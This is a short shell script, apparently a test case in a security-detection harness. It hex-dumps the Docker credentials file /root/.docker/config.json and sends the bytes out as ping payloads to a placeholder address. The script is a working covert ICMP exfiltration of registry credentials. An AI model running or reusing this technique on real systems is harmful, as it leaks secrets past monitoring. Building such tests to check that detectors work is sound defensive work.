#!/bin/sh
. /opt/case/case.sh

for byte in $(od -An -v -tx1 /root/.docker/config.json | tr -s ' \n' '  ' | cut -c1-180); do
    ping -q -c 1 -W 1 -p "$byte" 203.0.113.10 >/dev/null
done
took_place
